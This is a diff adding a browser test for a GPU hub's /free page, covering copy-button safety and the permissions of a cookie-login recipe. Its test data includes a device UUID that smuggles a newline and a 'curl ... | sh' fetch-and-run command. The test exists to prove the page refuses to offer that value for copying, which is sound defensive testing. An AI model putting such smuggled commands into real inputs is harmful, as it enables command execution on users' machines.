@@ -422,3 +422,58 @@ def test_I6_the_proxy_header_is_believed_only_from_trusted_proxies(hub_config, t
         assert [r[0] for r in rows] == ["10.0.0.9"]
     finally:
         _stop_hub(proc)
+
+
+# -- N7: the /free copy recipe ----------------------------------------------------------------
+
+@pytest.mark.browser
+def test_N7_free_page_copies_only_device_lists_and_the_cookie_recipe_is_private(page, hub_process, hub_config,
+                                                                               tmp_path):
+    """(a) An agent's MIG "uuid" with a newline and a command reached the clipboard; now only a
+    value of the device grammar gets a Copy button. (b) The cookie recipe, run as written under
+    umask 022, wrote a 0644 cookies.txt and put the password on curl's command line."""
+    import shutil
+    import stat
+
+    from browser import login, push
+    from playwright.sync_api import expect
+    from reports import mig_report
+
+    hostile = "MIG-4f1c2a9e-7b1d-5e3a-9c2b-1a2b3c4d5e6f\ncurl -s http://127.0.0.1:9/x | sh\n"
+    good = "MIG-0b6d3c2a-1f2e-5d4c-8b7a-6e5f4d3c2b1a"
+    report = mig_report("mig-node", busy_instances=())
+    report["mig_devices"][0]["uuid"] = hostile
+    report["mig_devices"][1]["uuid"] = good
+    push(hub_process, hub_config, report)
+    login(page, hub_process.base_url, hub_config.get("auth.username"), hub_config.password)
+    page.goto(hub_process.base_url + "/free")
+    rows = page.locator("#free-table tbody tr")
+    expect(rows.first).to_contain_text("mig-node")
+    texts = [rows.nth(i).inner_text() for i in range(rows.count())]
+    bad_row = rows.nth(next(i for i, t in enumerate(texts) if "4f1c2a9e" in t))
+    good_row = rows.nth(next(i for i, t in enumerate(texts) if good in t))
+    assert bad_row.locator("button.copy").count() == 0
+    expect(bad_row).to_contain_text("not offered for copying")
+    assert good_row.locator("button.copy").count() == 1
+    assert page.console_errors == []
+
+    if not shutil.which("curl"):
+        pytest.skip("curl is not installed")
+    # Every curl the recipe runs goes through a wrapper that records its command line.
+    bindir = tmp_path / "bin"
+    bindir.mkdir()
+    (bindir / "curl").write_text(f'#!/bin/sh\nprintf "%s\\n" "$*" >> {tmp_path}/argv.log\nexec {shutil.which("curl")} "$@"\n')
+    (bindir / "curl").chmod(0o755)
+    recipe = page.inner_text("#cookie-howto").replace("YOU", hub_config.get("auth.username"))
+    old = os.umask(0o022)
+    try:
+        subprocess.run(["bash", "-c", recipe], cwd=tmp_path, check=True, timeout=60, text=True,
+                       input=hub_config.password + "\n", env=dict(os.environ, PATH=f"{bindir}:{os.environ['PATH']}"))
+    finally:
+        os.umask(old)
+    argv = (tmp_path / "argv.log").read_text()
+    assert argv.count("\n") == 2 and hub_config.password not in argv, argv
+    assert stat.S_IMODE(os.stat(tmp_path / "cookies.txt").st_mode) == 0o600
+    one_liner = page.inner_text("#one-liner")
+    out = subprocess.run(["bash", "-c", one_liner], cwd=tmp_path, capture_output=True, text=True, timeout=60)
+    assert f"mig-node CUDA_VISIBLE_DEVICES={good}" in out.stdout, (out.stdout, out.stderr)
